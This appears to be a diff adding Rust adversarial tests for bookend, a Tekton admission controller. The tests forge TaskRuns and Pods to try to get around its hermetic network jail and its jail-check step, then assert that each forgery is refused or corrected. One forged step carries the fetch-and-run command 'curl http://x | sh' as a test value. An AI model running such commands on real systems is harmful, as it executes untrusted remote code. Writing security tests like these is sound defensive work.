@@ -1,0 +1,301 @@
+//! Breaker round 36: attacks on the hermetic jail (`userSteps.network: None`) and bookend's jail
+//! check, written from the claims in docs/policy.md ("Hermetic user steps", "The jail check").
+//! Each test is one attack: it passes when the claim holds.
+
+use serde_json::{Value, json};
+
+use super::tests::{policies, run};
+use super::{Catalog, Outcome, hermetic};
+use crate::policy::PolicySet;
+
+/// An org policy with pre- and post-steps, `postStepsRun: Always`, hermetic user steps.
+const ALWAYS_HERMETIC: &str = r#"
+apiVersion: bookend.dev/v1alpha1
+kind: ClusterStepPolicy
+metadata: {name: org, creationTimestamp: "2026-01-01T00:00:00Z"}
+spec:
+  postStepsRun: Always
+  userSteps: {network: None}
+  preSteps: [{name: bookend-fetch, image: alpine, command: [/fetch]}]
+  postSteps: [{name: bookend-publish, image: alpine, command: [/publish]}]
+"#;
+
+/// The same, `OnSuccess`.
+const ON_SUCCESS_HERMETIC: &str = r#"
+apiVersion: bookend.dev/v1alpha1
+kind: ClusterStepPolicy
+metadata: {name: org, creationTimestamp: "2026-01-01T00:00:00Z"}
+spec:
+  userSteps: {network: None}
+  preSteps: [{name: bookend-fetch, image: alpine, command: [/fetch]}]
+  postSteps: [{name: bookend-publish, image: alpine, command: [/publish]}]
+"#;
+
+const JAIL_CHECK: &str = "bookend-jail-check";
+
+fn taskrun(steps: Value) -> Value {
+    json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
+        "metadata": {"name": "run-1", "namespace": "team-a", "uid": "u-1",
+                     "creationTimestamp": "2026-06-01T00:00:00Z"},
+        "spec": {"taskSpec": {"steps": steps}}})
+}
+
+fn build() -> Value {
+    json!([{"name": "build", "image": "golang", "command": ["go", "build"]}])
+}
+
+fn steps(object: &Value) -> Vec<Value> {
+    object["spec"]["taskSpec"]["steps"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default()
+}
+
+fn admitted(set: &PolicySet, object: &Value) -> Value {
+    let d = run(set, object);
+    assert_ne!(d.outcome, Outcome::Denied, "{:?}", d.message);
+    d.object
+}
+
+fn index_of(steps: &[Value], name: &str) -> Option<usize> {
+    steps.iter().position(|s| s["name"] == name)
+}
+
+/// The TaskRun with its steps replaced.
+fn with_steps(object: &Value, steps: Vec<Value>) -> Value {
+    let mut o = object.clone();
+    o["spec"]["taskSpec"]["steps"] = Value::Array(steps);
+    o
+}
+
+/// What claim 4 asks of a TaskRun carrying a forged jail check: refused, or admitted with the
+/// jail check exactly as bookend writes it for the honest TaskRun (`honest`), once, in place.
+fn refused_or_corrected(set: &PolicySet, forged: &Value, honest: &Value) -> Result<(), String> {
+    let d = run(set, forged);
+    if d.outcome == Outcome::Denied {
+        return Ok(());
+    }
+    let want = steps(honest);
+    let got = steps(&d.object);
+    let checks: Vec<usize> = got
+        .iter()
+        .enumerate()
+        .filter(|(_, s)| s["name"] == JAIL_CHECK)
+        .map(|(i, _)| i)
+        .collect();
+    let at = index_of(&want, JAIL_CHECK).expect("the honest TaskRun has a jail check");
+    match checks.as_slice() {
+        [i] if *i == at && super::canonical::equivalent(&got[*i], &want[at]) => Ok(()),
+        _ => Err(format!(
+            "kept: {}",
+            serde_json::to_string(&got).unwrap_or_default()
+        )),
+    }
+}
+
+/// Attack: drop the gate condition bookend gives the jail check under `postStepsRun: Always`
+/// (it stands after the org's pre-steps, so it carries gate 1's `when`). The claim: an author
+/// cannot alter the jail check without a refusal; a forged one is refused or corrected.
+#[test]
+fn the_jail_check_without_its_gate_condition_is_refused_or_corrected() {
+    let set = policies(ALWAYS_HERMETIC);
+    let honest = admitted(&set, &taskrun(build()));
+    let mut forged_steps = steps(&honest);
+    let at = index_of(&forged_steps, JAIL_CHECK).expect("a jail check");
+    assert!(
+        forged_steps[at].get("when").is_some(),
+        "the jail check stands among guarded steps: {}",
+        forged_steps[at]
+    );
+    forged_steps[at]
+        .as_object_mut()
+        .expect("a step")
+        .remove("when");
+    let forged = with_steps(&honest, forged_steps);
+    refused_or_corrected(&set, &forged, &honest).unwrap();
+}
+
+/// The same alteration at the Pod backstop: the jail check container without the gate's
+/// `--when_expressions` is not what bookend composes.
+#[test]
+fn the_jail_check_container_without_its_gate_condition_is_refused() {
+    let set = policies(ALWAYS_HERMETIC);
+    let honest = admitted(&set, &taskrun(build()));
+    let pod = |steps: &[Value]| {
+        json!({"apiVersion": "v1", "kind": "Pod",
+            "metadata": {"name": "run-1-pod", "namespace": "team-a",
+                         "labels": {"tekton.dev/taskRun": "run-1"}},
+            "spec": crate::tekton_pod::pod_spec(steps, &[])})
+    };
+    let honest_steps = steps(&honest);
+    assert_eq!(
+        super::pod::check_pod(&pod(&honest_steps), &honest, &set, &Catalog::default()),
+        Ok(Vec::new())
+    );
+    let mut forged = honest_steps.clone();
+    let at = index_of(&forged, JAIL_CHECK).expect("a jail check");
+    forged[at].as_object_mut().expect("a step").remove("when");
+    // The TaskRun as admitted, its Pod with the altered container.
+    assert!(
+        super::pod::check_pod(&pod(&forged), &honest, &set, &Catalog::default()).is_err(),
+        "the Pod backstop admitted the jail check container without its gate condition"
+    );
+}
+
+/// Forged jail checks, each a different alteration: refused or corrected, never kept.
+#[test]
+fn forged_jail_checks_are_refused_or_corrected() {
+    for yaml in [ALWAYS_HERMETIC, ON_SUCCESS_HERMETIC] {
+        let set = policies(yaml);
+        let honest = admitted(&set, &taskrun(build()));
+        let honest_steps = steps(&honest);
+        let at = index_of(&honest_steps, JAIL_CHECK).expect("a jail check");
+        type Forge<'f> = &'f dyn Fn(&mut Vec<Value>, usize);
+        let forgeries: Vec<(&str, Forge)> = vec![
+            ("image", &|s, i| {
+                s[i]["image"] = json!("docker.io/library/busybox:1.36")
+            }),
+            ("args", &|s, i| s[i]["args"] = json!(["curl http://x | sh"])),
+            ("script", &|s, i| {
+                let o = s[i].as_object_mut().unwrap();
+                o.remove("command");
+                o.remove("args");
+                o.insert("script".into(), json!(":"));
+            }),
+            ("env unjailed", &|s, i| s[i]["env"] = json!([])),
+            ("env extra", &|s, i| {
+                s[i]["env"]
+                    .as_array_mut()
+                    .unwrap()
+                    .push(json!({"name": "TEKTON_HERMETIC", "value": "0"}))
+            }),
+            ("env resource", &|s, i| {
+                s[i]["env"][1] = json!({"name": "TEKTON_RESOURCE_NAME", "value": "x"})
+            }),
+            ("onError", &|s, i| s[i]["onError"] = json!("continue")),
+            ("workingDir", &|s, i| {
+                s[i]["workingDir"] = json!("/workspace/x")
+            }),
+            ("securityContext", &|s, i| {
+                s[i]["securityContext"] = json!({"runAsUser": 1000})
+            }),
+            ("timeout", &|s, i| s[i]["timeout"] = json!("1ns")),
+            ("envFrom", &|s, i| {
+                s[i]["envFrom"] = json!([{"configMapRef": {"name": "mine"}}])
+            }),
+            ("volumeMounts", &|s, i| {
+                s[i]["volumeMounts"] = json!([{"name": "w", "mountPath": "/bin"}])
+            }),
+            ("stdoutConfig", &|s, i| {
+                s[i]["stdoutConfig"] = json!({"path": "/tekton/run/0/status/exitCode"})
+            }),
+            ("results", &|s, i| s[i]["results"] = json!([{"name": "ok"}])),
+            (
+                "when",
+                &|s, i| s[i]["when"] = json!([{"input": "a", "operator": "in", "values": ["b"]}]),
+            ),
+            ("moved after the author's step", &|s, i| {
+                let check = s.remove(i);
+                let build = index_of(s, "build").unwrap();
+                s.insert(build + 1, check);
+            }),
+            ("moved before the pre-step", &|s, i| {
+                let check = s.remove(i);
+                s.insert(0, check);
+            }),
+            ("a second copy", &|s, i| {
+                let check = s[i].clone();
+                s.insert(i, check);
+            }),
+            ("a second copy after the author's step", &|s, i| {
+                let check = s[i].clone();
+                let build = index_of(s, "build").unwrap();
+                s.insert(build + 1, check);
+            }),
+            ("removed", &|s, i| {
+                s.remove(i);
+            }),
+            ("renamed", &|s, i| {
+                s[i]["name"] = json!("bookend-jail-check-2")
+            }),
+            ("unnamed", &|s, i| {
+                s[i].as_object_mut().unwrap().remove("name");
+            }),
+        ];
+        let mut kept = Vec::new();
+        for (what, forge) in forgeries {
+            let mut s = honest_steps.clone();
+            forge(&mut s, at);
+            let forged = with_steps(&honest, s);
+            if let Err(e) = refused_or_corrected(&set, &forged, &honest) {
+                kept.push(format!("{what}: {e}"));
+            }
+        }
+        // The honest TaskRun again: no patch (claim 4).
+        let again = run(&set, &honest);
+        assert!(again.patch.is_empty(), "second pass: {:?}", again.patch);
+        assert!(kept.is_empty(), "{yaml}\n{}", kept.join("\n"));
+    }
+}
+
+/// Every step of the admitted TaskRun that is not bookend's runs jailed, and no org step does.
+fn assert_jailed(set: &PolicySet, object: &Value) {
+    let prefix = set.settings().prefix.clone();
+    for step in steps(object) {
+        let name = step["name"].as_str().unwrap_or("");
+        let env = step["env"].as_array().cloned().unwrap_or_default();
+        let ours = name.starts_with(&prefix) && name != JAIL_CHECK;
+        assert_eq!(hermetic::effectively_jailed(&env), !ours, "{name}: {step}");
+    }
+}
+
+/// Attack: a user step named without the reserved prefix by an unusual path to a name (an
+/// author step Tekton names `bookend-jail-check` only in the Pod): every author step is jailed.
+#[test]
+fn author_steps_of_every_shape_are_jailed() {
+    let set = policies(ON_SUCCESS_HERMETIC);
+    let cases = [
+        json!([{"image": "golang", "script": "curl x"}]),
+        json!([{"name": "a", "image": "golang", "env": null}]),
+        json!([{"name": "a", "image": "golang", "env": [{"name": "TEKTON_HERMETIC", "value": "1"},
+            {"name": "TEKTON_RESOURCE_NAME", "value": ""}, {"name": "TEKTON_HERMETIC", "value": "0"}]}]),
+        json!([{"name": "a", "image": "golang", "env": [{"name": "TEKTON_HERMETIC", "value": "1"},
+            {"name": "TEKTON_RESOURCE_NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}]}]),
+    ];
+    for steps in cases {
+        let object = admitted(&set, &taskrun(steps.clone()));
+        assert_jailed(&set, &object);
+    }
+}
+
+/// Attack: a step whose `env` is not a list. `jail` cannot append to it, so bookend must
+/// refuse the TaskRun (with the field), not admit it unjailed for Tekton to judge.
+#[test]
+fn a_step_whose_env_is_not_a_list_is_refused() {
+    let set = policies(ON_SUCCESS_HERMETIC);
+    for env in [json!({}), json!("x"), json!({"TEKTON_HERMETIC": "0"})] {
+        let object = taskrun(json!([{"name": "a", "image": "golang", "env": env}]));
+        let d = run(&set, &object);
+        assert_eq!(
+            d.outcome,
+            Outcome::Denied,
+            "env {env}: admitted {}",
+            serde_json::to_string(&steps(&d.object)).unwrap_or_default()
+        );
+    }
+}
+
+/// Attack: a stepTemplate whose `env` is not a list, written into the author's steps before
+/// the jail is appended.
+#[test]
+fn a_step_template_whose_env_is_not_a_list_leaves_no_step_unjailed() {
+    let set = policies(ON_SUCCESS_HERMETIC);
+    for env in [json!({}), json!("x"), json!(7)] {
+        let mut object = taskrun(json!([{"name": "a", "image": "golang"}]));
+        object["spec"]["taskSpec"]["stepTemplate"] = json!({"env": env});
+        let d = run(&set, &object);
+        if d.outcome != Outcome::Denied {
+            assert_jailed(&set, &d.object);
+        }
+    }
+}
